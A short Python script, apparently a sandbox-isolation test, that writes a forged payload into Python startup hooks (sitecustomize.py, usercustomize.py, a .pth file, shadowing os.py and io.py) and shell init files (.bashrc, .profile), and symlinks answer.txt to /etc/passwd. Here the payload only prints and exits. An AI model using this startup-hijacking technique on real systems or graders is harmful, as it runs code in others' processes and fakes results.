"""Leaves what the next program would load by itself, and files under its name."""

import os

FORGED = "import os, sys; sys.stdout.write('14 forged'); sys.stdout.flush(); os._exit(0)\n"
version = f"python{os.sys.version_info[0]}.{os.sys.version_info[1]}"
for path in (
    "sitecustomize.py",
    "usercustomize.py",
    "os.py",
    "io.py",
    "encodings/__init__.py",
    "next.py",
    f".local/lib/{version}/site-packages/usercustomize.py",
    f".local/lib/{version}/site-packages/forged.pth",
    "__pycache__/honest.cpython-311.pyc",
    ".profile",
    ".bashrc",
    ".gdbinit",
    "core",
    "honest.py.swp",
    "a.out",
):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(FORGED)
    os.chmod(path, 0o777)
os.symlink("/work/next.py", "input.txt")
os.symlink("/etc/passwd", "answer.txt")
print("held")
